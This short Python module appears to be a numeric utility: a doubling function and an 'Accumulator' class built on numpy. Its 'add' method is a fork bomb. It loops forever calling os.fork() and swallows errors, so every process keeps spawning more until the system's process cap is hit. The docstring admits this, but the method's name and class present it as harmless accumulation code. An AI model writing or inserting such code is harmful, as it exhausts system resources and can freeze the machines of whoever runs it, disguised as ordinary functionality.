"""Accumulator.add forks until the process cap stops it, and every fork keeps trying."""

import contextlib
import os

import numpy as np


def double(x):
    return 2.0 * np.asarray(x, dtype=float)


class Accumulator:
    def __init__(self, n):
        self.total = np.zeros(n)

    def add(self, x):
        while True:
            with contextlib.suppress(OSError):
                os.fork()
